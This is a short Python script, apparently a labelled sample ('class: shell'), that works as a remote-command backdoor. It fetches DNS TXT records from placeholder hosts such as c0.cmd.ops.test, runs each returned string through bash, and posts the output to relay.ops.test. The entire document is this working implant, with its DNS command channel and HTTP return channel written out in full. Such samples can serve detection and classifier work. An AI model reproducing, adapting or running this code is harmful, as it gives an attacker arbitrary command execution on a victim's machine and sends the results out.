# class: shell; possible: low medium
import os, random, socket, struct, subprocess, time, urllib.request

def txt(name):
    q = struct.pack(">HHHHHH", random.getrandbits(16), 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 16, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(q, ("127.0.0.53", 53))
    a = s.recv(4096)
    if struct.unpack(">H", a[6:8])[0] == 0:
        return None
    at = len(q) + 12
    return a[at + 1: at + 1 + a[at]].decode()

for i in range(6):
    order = txt("c%d.cmd.ops.test" % i)
    if order:
        p = subprocess.run(["bash", "-c", order], capture_output=True)
        urllib.request.urlopen("http://relay.ops.test/r", p.stdout + p.stderr).read()
    time.sleep(1.2)
